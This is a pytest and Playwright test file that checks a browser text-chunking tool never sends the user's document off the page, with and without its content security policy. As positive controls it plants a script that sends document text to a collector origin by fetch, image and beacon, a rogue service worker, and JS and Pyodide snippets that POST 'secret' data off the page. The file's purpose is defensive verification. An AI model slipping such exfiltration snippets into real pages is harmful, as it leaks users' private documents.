"""Nothing about the document leaves the browser: two layers, each proven on its own.

Layer 1, the page itself, with the safety net off. The server sends no CSP header and the
browser context bypasses the page's <meta> policy (`bypass_csp=True`; the first check
shows an inline script really runs). The whole user flow runs: paste, typing, import
through Browse TXT/MD, both modes, both edges, a Source name, an Evidence check question
with an excerpt and the panel's exports, both downloads, both copies, Copy settings link,
a second document and a long file loaded in parts (a marker in its last part, shown, and
the whole file downloaded), reopening that link in a new page, and the flow again
offline. Every request Playwright
sees must be a same-origin GET of a file the build wrote; unique markers typed, pasted,
imported, used as the Source name and written into a question and its excerpt appear in
no request (URL,
headers, body) the browser or the server saw; a second local server on another origin
(the collector) receives nothing. This is what shows the page makes no such request.

Positive control: the same flow and the same check on a copy of the site with a planted
leak (a script sending the start of the document to the collector by fetch, image and
beacon after every render) must report each of the three leaks; if it reports nothing,
the layer-1 check is blind and this test fails.

The service worker is part of layer 1: each journey waits until the page says whether it
is stored for offline use, then lists the browser's caches; a cache other than this
build's one, or a cached URL that is not a file the build wrote on this origin, is a
problem like a request. Positive control: a planted worker (the real one plus an install
step that stores a file in another cache and in its own, and posts to the collector)
must be reported for each.

Layer 2, the policy. On the site as served (header and <meta> policy), a listener for
`securitypolicyviolation` sees no violation during normal use, and a deliberate request
to the collector by fetch, image, beacon, form and WebSocket, from JavaScript and from
Python in the page's own Pyodide (through `pyscript.window`, plus pyodide.http), is each
refused, each with its violation observed; neither the browser nor the collector sees it.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Browser, Request, expect
from playwright.sync_api import Error as PlaywrightError

from chunker_py import Settings, analyse, to_csv, to_jsonl

from ..conftest import CACHED, SAMPLE, App, Server, launch_app

# they provoke console errors on purpose (refused requests, broken files, planted bugs)
pytestmark = pytest.mark.page_errors_expected


@dataclass
class Seen:
    method: str
    url: str
    kind: str  # Playwright's resource type: document, script, fetch, image, ping ...
    headers: dict[str, str]
    body: bytes

    def exposed(self) -> str:
        return unquote(self.url) + json.dumps(self.headers) + self.body.decode("latin-1")


def recorder(sink: list[Seen]) -> Callable[[Request], None]:
    def on_request(request: Request) -> None:
        body = request.post_data_buffer or b""
        sink.append(
            Seen(request.method, request.url, request.resource_type, dict(request.headers), body)
        )

    return on_request


# ---------------------------------------------------------------- the user flow


def run_flow(app: App, marker: str, tmp: Path) -> dict[str, object]:
    """The whole user flow on a booted page; returns what the user got out of it."""
    out: dict[str, object] = {}
    preview = app.region("Overlap preview")

    # Paste (fill = one input event with the whole text), then type on top of it.
    pasted = f"Pasted paragraph {marker}-paste with some words.\n\nSecond paragraph here."
    app.fill("Source text", pasted)
    expect(preview).to_contain_text(f"{marker}-paste")
    app.type("Source text", f" {marker}-typed", clear=False)
    expect(app.region("Chunk records")).to_contain_text(f"{marker}-typed")

    # Import through Browse TXT/MD.
    lines = [f"Line {i} of the imported notes {marker}-file, some filler words." for i in range(40)]
    lines[7] = f"Line 7 holds the evidence {marker}-excerpt for a question."
    imported = "# Notes\n\n" + "\n".join(lines) + "\n"
    app.settle(lambda: app.browse("notes.md", imported.encode(), "text/markdown"))
    expect(app.source_status()).to_contain_text("Imported notes.md")
    assert app.value("Source text") == imported

    # Settings: size/overlap, both modes, both edges, a Source name.
    app.fill("Chunk size", "200")
    app.fill("Requested overlap", "40")
    for label in ("Fixed size", "Recursive", "Preserve edge whitespace", "Trim edge whitespace"):
        app.choose(label)
        expect(app.readiness_status()).to_have_text("Ready")
    name = f"{marker}-name"
    app.fill("Source name", name)

    # Evidence check: a question and an excerpt holding markers, then every
    # export of the panel; none of it may reach a request or the settings link.
    # The paste replaced the sample, so its questions already left with it.
    expect(app.page.locator("#evidence-count")).to_have_text("No questions yet")
    expect(app.page.get_by_role("button", name="Clear questions", exact=True)).to_be_disabled()
    app.control("Question").fill(f"What does {marker}-question ask?")
    app.control("Excerpt").fill(f"the evidence {marker}-excerpt")
    app.press("Find excerpt")
    app.press("Add question")
    expect(app.page.locator("#evidence-list")).to_contain_text(f"{marker}-question")
    for kind in ("CSV", "JSON", "JSONL"):
        app.download(f"Export {kind}")
    _file, figures = app.download("Download figures (JSONL)")
    out["evidence"] = figures.decode("utf-8")

    for kind in ("JSONL", "CSV"):
        file_name, data = app.download(f"Download {kind}")
        out[kind] = data.decode("utf-8")  # no newline translation
        out[f"{kind} name"] = file_name
        out[f"copied {kind}"] = app.copy(f"Copy {kind}")
    out["link"] = app.copy("Copy settings link")
    out["text"] = imported
    out["name"] = name
    out["settings"] = Settings(chunk_size=200, chunk_overlap=40, source_name=name)
    out["dialogs"] = list(app.dialogs)

    # Several documents: a second file, and a long file loaded in parts whose last part
    # holds a marker; the last part is shown and the whole file downloaded.
    second = f"A second document {marker}-second, short.\n"
    long_file = "Filler sentence for the long file. " * 1_800 + f"Late {marker}-part here.\n"
    files = [("second.txt", second.encode()), ("long.txt", long_file.encode())]
    app.settle(lambda: app.browse_files(files))
    expect(app.source_status()).to_contain_text("showing second.txt")
    app.settle(app.page.get_by_role("button", name="Load long.txt in parts").click)
    last = app.region("Documents").get_by_role("button", name=re.compile(r"^long\.txt · part 4 "))
    app.settle(last.click)
    expect(app.region("Chunk records")).to_contain_text(f"{marker}-part")
    _file, whole = app.download("Download the whole file (JSONL)")
    assert f"{marker}-part".encode() in whole
    return out


@dataclass
class Journey:
    base_url: str
    markers: list[str]
    requests: list[Seen]  # every request the browser context made, both pages
    offline_requests: list[Seen]
    server_log: list  # conftest.Request
    collector_log: list
    online: dict[str, object]
    offline: dict[str, object] = field(default_factory=dict)
    reopened: dict[str, object] = field(default_factory=dict)
    inline_script_ran: bool = False
    violations: list[dict[str, str]] = field(default_factory=list)
    offline_id: str = ""  # the build id the page asks its worker for
    caches: dict[str, list[str]] = field(default_factory=dict)  # name -> cached URLs


OFFLINE_SETTLED = (
    "() => ['ready', 'failed', 'unavailable']"
    ".includes(document.getElementById('offline-status')?.dataset.offline)"
)


def worker_caches(app: App) -> tuple[str, dict[str, list[str]]]:
    """Once the page says whether it is stored for offline use: its build id and every
    cache of the origin with the URLs it holds."""
    app.page.wait_for_function(OFFLINE_SETTLED, timeout=180_000)
    offline_id = app.page.get_attribute("script[data-offline-id]", "data-offline-id") or ""
    return offline_id, app.page.evaluate(CACHED)


def journey(
    browser: Browser,
    server: Server,
    collector: Server,
    tmp: Path,
    *,
    full: bool = True,
    **context_options: object,
) -> Journey:
    """Boot, run the flow; with `full`, reopen the copied link and run it again offline."""
    run = uuid.uuid4().hex
    markers = [f"PRIVMARK{run[:12]}", f"PRIVMARK{run[12:24]}"]
    collected = len(collector.requests)
    first = launch_app(browser, server.url, **context_options)
    context = first.page.context
    seen: list[Seen] = []
    context.on("request", recorder(seen))
    try:
        first.open().wait_ready()
        ran = first.page.evaluate(
            "() => { const s = document.createElement('script');"
            " s.textContent = 'window.__inlineRan = true;'; document.head.append(s);"
            " return window.__inlineRan === true; }"
        )
        online = run_flow(first, markers[0], tmp)
        result = Journey(server.url, markers, seen, [], [], [], online, inline_script_ran=bool(ran))
        result.offline_id, result.caches = worker_caches(first)
        if full:
            second = App(page=context.new_page(), base_url=server.url).watch()
            second.page.goto(str(online["link"]))
            second.wait_ready()
            result.reopened = {
                "Recursive": second.checked("Recursive"),
                "Trim edge whitespace": second.checked("Trim edge whitespace"),
                "Chunk size": second.value("Chunk size"),
                "Requested overlap": second.value("Requested overlap"),
                "Source name": second.value("Source name"),
                "Source text": second.value("Source text"),
                "status": second.readiness_status().text_content(),
            }
            # Offline after load: the flow again on the reopened page; the link is
            # reopened by editing the fragment (a navigation would need the network).
            offline: list[Seen] = []
            context.on("request", recorder(offline))
            context.set_offline(True)
            result.offline = run_flow(second, markers[1], tmp)
            second.fill("Source name", "")
            second.open_link("#" + urlsplit(str(online["link"])).fragment)
            result.offline["relinked"] = {
                "Chunk size": second.value("Chunk size"),
                "Source name": second.value("Source name"),
            }
            context.set_offline(False)
            result.offline_requests = offline
            result.violations = (first.violations() or []) + (second.violations() or [])
        else:
            result.violations = first.violations() or []
    finally:
        context.close()
    result.requests = list(seen)
    result.server_log = server.requests
    result.collector_log = collector.requests[collected:]
    return result


def _built_file(site_root: Path, url_path: str) -> Path | None:
    relative = unquote(url_path).lstrip("/") or "index.html"
    candidate = (site_root / relative).resolve()
    if site_root.resolve() not in candidate.parents or not candidate.is_file():
        return None
    return candidate


def _stays_in_the_page(url: str, base_url: str) -> bool:
    """data: URLs and this origin's blob: URLs never leave the page."""
    return url.startswith("data:") or url.startswith(f"blob:{base_url.rstrip('/')}/")


def layer1_problems(j: Journey, site_root: Path) -> list[str]:
    """Everything the page sent that it should not have: each request off the origin,
    not a GET, with a query, not a built file, or carrying a marker; whatever the
    collector received. Empty means the page made no such request."""
    problems = []
    for seen in j.requests:
        if _stays_in_the_page(seen.url, j.base_url):
            continue
        parts = urlsplit(seen.url)
        if not seen.url.startswith(j.base_url):
            problems.append(f"foreign {seen.kind}: {seen.method} {seen.url}")
        elif seen.method != "GET":
            problems.append(f"not a GET ({seen.kind}): {seen.method} {seen.url}")
        elif parts.query:
            problems.append(f"query string ({seen.kind}): {seen.url}")
        elif _built_file(site_root, parts.path) is None:
            problems.append(f"not a built file ({seen.kind}): {seen.url}")
        if "PRIVMARK" in seen.exposed():
            problems.append(f"carries the document ({seen.kind}): {seen.method} {seen.url}")
    for entry in j.server_log:
        exposed = unquote(entry.path) + json.dumps(entry.headers) + entry.body.decode("latin-1")
        if entry.method != "GET" or "PRIVMARK" in exposed:
            problems.append(f"server saw {entry.method} {entry.path}")
    for entry in j.collector_log:
        problems.append(f"collector received {entry.method} {entry.path}")
    own = f"chunk-inspector-{j.offline_id}"
    for name, urls in j.caches.items():
        if name != own:
            problems.append(f"cache not this build's: {name}")
        for url in urls:
            parts = urlsplit(url)
            if (
                not url.startswith(j.base_url)
                or parts.query
                or _built_file(site_root, parts.path) is None
            ):
                problems.append(f"cached, not a built file: {name} {url}")
    return problems


@pytest.fixture(scope="module")
def collector(serve_dir, tmp_path_factory) -> Server:
    """Another origin (another port) that would receive anything sent off the page."""
    return serve_dir(tmp_path_factory.mktemp("collector"))


# ---------------------------------------------------------------- layer 1: the page itself


@pytest.fixture(scope="module")
def unguarded(browser, site, serve_dir, collector, tmp_path_factory) -> Journey:
    server = serve_dir(site.root, csp=None)  # a private server: its log is this journey
    return journey(
        browser, server, collector, tmp_path_factory.mktemp("unguarded"), bypass_csp=True
    )


def test_layer1_runs_with_the_policy_really_off(unguarded: Journey) -> None:
    assert unguarded.inline_script_ran, "an inline script was refused: the CSP is still on"
    assert unguarded.violations == []


def test_layer1_the_page_sends_nothing_off_its_origin_or_about_the_document(
    unguarded: Journey, site
) -> None:
    assert len(unguarded.requests) > 10, "too few requests recorded: is the recorder on?"
    assert layer1_problems(unguarded, site.root) == []


def test_layer1_offline_after_load_the_page_asks_the_network_for_nothing(
    unguarded: Journey,
) -> None:
    network = [
        s.url
        for s in unguarded.offline_requests
        if not _stays_in_the_page(s.url, unguarded.base_url)
    ]
    assert network == []


def test_layer1_server_saw_only_what_the_browser_asked(unguarded: Journey) -> None:
    server_paths = {unquote(r.path) for r in unguarded.server_log}
    browser_paths = {
        unquote(urlsplit(s.url).path)
        for s in unguarded.requests
        if s.url.startswith(unguarded.base_url)
    }
    assert "/" in server_paths and server_paths <= browser_paths


def _check_flow_output(out: dict[str, object]) -> None:
    text = str(out["text"])
    expected = analyse(text, out["settings"])  # type: ignore[arg-type]
    assert expected.error is None
    assert out["JSONL"] == to_jsonl(expected)
    assert out["CSV"] == to_csv(expected)
    assert out["copied JSONL"] == out["JSONL"]
    assert out["copied CSV"] == out["CSV"]
    assert out["JSONL name"] == f"{out['name']}.jsonl"
    rows = list(csv.DictReader(io.StringIO(str(out["CSV"]), newline="")))
    assert [r["text"] for r in rows] == [c.text for c in expected.chunks]
    assert out["dialogs"] == []
    # Evidence check: the question was checked, and neither it nor its excerpt is in the link
    (checked,) = [json.loads(line) for line in str(out["evidence"]).splitlines()]
    assert checked["matched"] and checked["question"].endswith("-question ask?")
    assert "-question" not in str(out["link"]) and "-excerpt" not in str(out["link"])


def test_the_flow_gives_exact_downloads_and_copies_online_and_offline(
    unguarded: Journey,
) -> None:
    _check_flow_output(unguarded.online)
    _check_flow_output(unguarded.offline)
    assert unguarded.offline["relinked"] == {
        "Chunk size": "200",
        "Source name": unguarded.online["name"],
    }


def test_copied_settings_link_reopens_with_the_settings_and_the_sample_not_the_text(
    unguarded: Journey,
) -> None:
    link = str(unguarded.online["link"])
    assert link.startswith(unguarded.base_url + "#")
    assert "PRIVMARK" not in link.replace(str(unguarded.online["name"]), "")
    assert unguarded.reopened == {
        "Recursive": True,
        "Trim edge whitespace": True,
        "Chunk size": "200",
        "Requested overlap": "40",
        "Source name": unguarded.online["name"],
        "Source text": SAMPLE,  # the sample, never the document
        "status": "Ready",
    }


# ---------------------------------------------------------------- positive control

LEAK_JS = """// Planted by test_privacy.py: sends the start of the document off the page.
(() => {
  const target = %s;
  const app = document.getElementById('app');
  new MutationObserver(() => {
    if (app.dataset.state !== 'ready') return;
    const text = document.getElementById('source-text').value.slice(0, 40);
    fetch(target + 'fetch', { method: 'POST', body: text, mode: 'no-cors' }).catch(() => {});
    new Image().src = target + 'image?q=' + encodeURIComponent(text);
    navigator.sendBeacon(target + 'beacon', text);
  }).observe(app, { attributes: true, attributeFilter: ['data-state'] });
})();
"""


def planted_journey(
    browser: Browser,
    server: Server,
    collector: Server,
    tmp_path_factory: pytest.TempPathFactory,
    name: str,
) -> Journey:
    """One pass of the flow over a copy of the site with something planted in it, served
    without the policy (the plant must be able to act, so the checks can see it)."""
    return journey(
        browser, server, collector, tmp_path_factory.mktemp(name), full=False, bypass_csp=True
    )


@pytest.fixture(scope="module")
def leaky(browser, site, copy_site, serve_dir, collector, tmp_path_factory) -> Journey:
    broken = copy_site()
    (broken / site.build / "leak.js").write_text(LEAK_JS % json.dumps(collector.url), "utf-8")
    index = broken / "index.html"
    tag = f'<script src="{site.build}/leak.js" defer></script>'
    index.write_text(index.read_text("utf-8").replace("</head>", tag + "\n</head>"), "utf-8")
    return planted_journey(
        browser, serve_dir(broken, csp=None), collector, tmp_path_factory, "leaky"
    )


def test_positive_control_layer1_reports_a_planted_leak_by_fetch_image_and_beacon(
    leaky: Journey, site
) -> None:
    """If this fails, the layer-1 check above cannot see a leak and proves nothing."""
    problems = layer1_problems(leaky, site.root)
    said = "\n".join(problems)
    for kind in ("fetch", "image", "ping"):  # Playwright calls a beacon's type "ping"
        assert f"carries the document ({kind})" in said, f"{kind} leak not reported:\n{said}"
    assert "collector received POST /fetch" in said
    assert "collector received GET /image" in said
    assert "collector received POST /beacon" in said


PLANTED_WORKER = """
// Planted by test_privacy.py: a worker that keeps and sends what it should not.
self.addEventListener("install", (event) => {
  event.waitUntil((async () => {
    const target = %s;
    const here = new URL("planted.txt", self.location.href).href;
    await (await caches.open("planted-elsewhere")).put(here, new Response("kept"));
    await (await caches.open(MANIFEST.cache)).put(target + "cached", new Response("kept"));
    await fetch(target + "worker", { method: "POST", body: "x", mode: "no-cors" })
      .catch(() => {});
  })());
});
"""


@pytest.fixture(scope="module")
def rogue_worker(browser, site, copy_site, serve_dir, collector, tmp_path_factory) -> Journey:
    broken = copy_site()
    worker = broken / "sw.js"
    worker.write_text(
        worker.read_text("utf-8") + PLANTED_WORKER % json.dumps(collector.url), "utf-8"
    )
    return planted_journey(
        browser, serve_dir(broken, csp=None), collector, tmp_path_factory, "rogue"
    )


def test_positive_control_layer1_reports_a_planted_worker_that_caches_or_sends_elsewhere(
    rogue_worker: Journey, site
) -> None:
    """If this fails, the checks above cannot see a worker that keeps or sends data."""
    said = "\n".join(layer1_problems(rogue_worker, site.root))
    assert rogue_worker.caches, "no cache listed: did the worker run?"
    assert "cache not this build's: planted-elsewhere" in said, said
    assert f"cached, not a built file: chunk-inspector-{rogue_worker.offline_id} " in said, said
    assert "collector received POST /worker" in said, said


def test_the_real_worker_keeps_only_the_builds_files(unguarded: Journey) -> None:
    own = f"chunk-inspector-{unguarded.offline_id}"
    assert unguarded.offline_id and list(unguarded.caches) == [own], list(unguarded.caches)
    assert any(url.endswith("/index.html") for url in unguarded.caches[own])


# ---------------------------------------------------------------- layer 2: the policy


@pytest.fixture(scope="module")
def guarded(browser, site, serve_dir, collector, tmp_path_factory) -> Journey:
    server = serve_dir(site.root)  # CSP header, and the <meta> policy is obeyed
    return journey(browser, server, collector, tmp_path_factory.mktemp("guarded"), full=False)


def test_layer2_no_violation_in_normal_use_and_the_flow_works(guarded: Journey, site) -> None:
    assert not guarded.inline_script_ran, "an inline script ran: the CSP is not applied"
    inline = [v for v in guarded.violations if v["directive"].startswith("script-src")]
    # one report per policy that refuses it (the header and the <meta> tag)
    assert inline, "the listener did not see the refused inline script"
    assert {v["blocked"] for v in inline} == {"inline"}
    assert [v for v in guarded.violations if v not in inline] == []
    _check_flow_output(guarded.online)
    assert layer1_problems(guarded, site.root) == []


JS_CHANNELS = {
    "fetch": "async (url) => { try { await fetch(url, { method: 'POST', body: 'secret' }); }"
    " catch (error) {} }",
    "image": "(url) => { new Image().src = url + '?secret'; }",
    "beacon": "(url) => { navigator.sendBeacon(url, 'secret'); }",
    "form": "(url) => { const form = Object.assign(document.createElement('form'),"
    " { method: 'POST', action: url }); document.body.append(form); form.submit();"
    " form.remove(); }",
    "websocket": "(url) => { try { new WebSocket(url.replace(/^http/, 'ws')); } catch (error) {} }",
}

PY_CHANNELS = {
    "fetch": """
from pyscript import window
try:
    await window.fetch(URL, method="POST", body="secret")
except Exception:
    pass
""",
    "pyfetch": """
from pyodide.http import pyfetch
try:
    await pyfetch(URL, method="POST", body="secret")
except Exception:
    pass
""",
    "open_url": """
from pyodide.http import open_url
try:
    open_url(URL)
except Exception:
    pass
""",
    "image": """
from pyscript import window
window.Image.new().src = URL + "?secret"
""",
    "beacon": """
from pyscript import window
window.navigator.sendBeacon(URL, "secret")
""",
    "form": """
from pyscript import document
form = document.createElement("form")
form.method = "POST"
form.action = URL
document.body.append(form)
form.submit()
form.remove()
""",
    "websocket": """
from pyscript import window
try:
    window.WebSocket.new(URL.replace("http", "ws", 1))
except Exception:
    pass
""",
}

DIRECTIVE = {"image": "img-src", "form": "form-action"}  # the rest: connect-src


@dataclass
class Attempt:
    violations: list[dict[str, str]]
    finished: list[Seen]  # requests answered while the attempt ran


@pytest.fixture(scope="module")
def attempts(browser, site, serve_dir, collector) -> dict[str, Attempt]:
    """Each deliberate request on the guarded site, one at a time, with what it caused."""
    server = serve_dir(site.root)
    app = launch_app(browser, server.url)
    seen: list[Seen] = []
    # Chromium may announce a request before the policy refuses it; only one that got a
    # response (requestfinished) or reached the collector went out.
    app.page.context.on("requestfinished", recorder(seen))
    out: dict[str, Attempt] = {}
    try:
        app.open().wait_ready()
        channels = [("js " + k, v) for k, v in JS_CHANNELS.items()]
        channels += [("python " + k, v) for k, v in PY_CHANNELS.items()]
        for name, code in channels:
            url = f"{collector.url}{name.replace(' ', '-')}"
            before, requests_before = len(app.violations()), len(seen)
            if name.startswith("js"):
                app.page.evaluate(code, url)
            else:
                app.python(f"URL = {url!r}\n{code}")
            host = urlsplit(collector.url).netloc
            # violation events are asynchronous; a missing one is reported by the test
            with contextlib.suppress(PlaywrightError):
                app.page.wait_for_function(
                    "([n, host]) => window.__cspViolations.slice(n).some("
                    "(v) => v.blocked.includes(host))",
                    arg=[before, host],
                    timeout=5_000,
                )
            out[name] = Attempt(app.violations()[before:], seen[requests_before:])
        assert app.state() == "ready"  # no form navigated the page away
    finally:
        app.page.context.close()
    return out


@pytest.mark.parametrize(
    "channel",
    [f"js {k}" for k in JS_CHANNELS] + [f"python {k}" for k in PY_CHANNELS],
)
def test_layer2_csp_refuses_a_deliberate_request_and_reports_it(
    attempts: dict[str, Attempt], collector: Server, channel: str
) -> None:
    attempt = attempts[channel]
    kind = channel.split(" ", 1)[1]
    directive = DIRECTIVE.get(kind, "connect-src")
    host = urlsplit(collector.url).netloc
    seen = {(v["directive"], host in v["blocked"]) for v in attempt.violations}
    assert (directive, True) in seen, (
        f"no {directive} violation for {channel}: {attempt.violations}"
    )
    went_out = [s.url for s in attempt.finished if host in s.url]
    assert went_out == [], f"{channel} reached the network: {went_out}"
    reached = [r.path for r in collector.requests if channel.replace(" ", "-") in r.path]
    assert reached == []
